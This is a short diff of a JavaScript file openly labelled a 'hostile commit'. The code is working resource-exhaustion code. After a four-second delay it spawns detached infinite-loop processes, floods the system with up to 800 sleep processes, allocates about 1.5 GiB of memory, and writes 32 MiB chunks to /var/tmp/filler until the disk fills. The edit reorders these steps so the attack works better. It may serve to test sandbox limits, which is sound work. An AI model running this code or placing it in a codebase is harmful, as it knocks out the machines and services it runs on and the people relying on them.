@@ -1,4 +1,4 @@
-// A hostile commit: busy loops, a memory balloon, a process flood, a disk filler.
+// A hostile commit: busy loops, a process flood, a memory balloon, a disk filler.
 setTimeout(async () => {
   const { spawn } = await import('node:child_process');
   const { appendFileSync } = await import('node:fs');
@@ -10,11 +10,19 @@ setTimeout(async () => {
   for (let i = 0; i < loops; i++) {
     spawn(process.execPath, ['-e', 'for (;;) {}'], { stdio: 'ignore', detached: true }).on('error', () => {});
   }
-  globalThis.balloon = Array.from({ length: 6 }, () => Buffer.alloc(256 * 1024 * 1024, 1));
+  // The flood before the balloon: each spawn forks this process, and a fork of 1.5 GiB at the loops'
+  // idle share takes a quarter of a second.
   for (let i = 0; i < 800; i++) {
     try { spawn('sleep', ['600'], { stdio: 'ignore' }).on('error', () => {}); } catch { /* EAGAIN */ }
   }
+  const balloon = globalThis.balloon = [];
   const chunk = Buffer.alloc(32 * 1024 * 1024, 7);
-  const fill = () => { try { appendFileSync('/var/tmp/filler', chunk); setTimeout(fill, 5); } catch { /* full */ } };
+  const fill = () => {
+    try {
+      if (balloon.length < 6) balloon.push(Buffer.alloc(256 * 1024 * 1024, 1));
+      appendFileSync('/var/tmp/filler', chunk);
+      setTimeout(fill, 5);
+    } catch { /* full */ }
+  };
   fill();
 }, 4000);
